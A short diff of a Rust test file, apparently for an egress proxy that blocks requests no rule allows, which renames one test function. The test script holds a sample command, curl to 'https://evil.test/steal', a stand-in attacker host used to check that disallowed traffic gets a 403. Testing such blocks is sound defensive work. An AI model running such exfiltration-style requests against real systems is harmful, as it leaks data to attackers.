@@ -45,7 +45,7 @@ async fn an_allowed_request_reaches_the_origin_and_is_logged() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn what_no_rule_allows_gets_403_with_the_reason_and_the_mend() {
+async fn what_no_rule_allows_gets_403_with_the_reason_and_the_fix() {
     let bed = Bed::new().await;
     let script = [
         curl("https://evil.test/steal"),
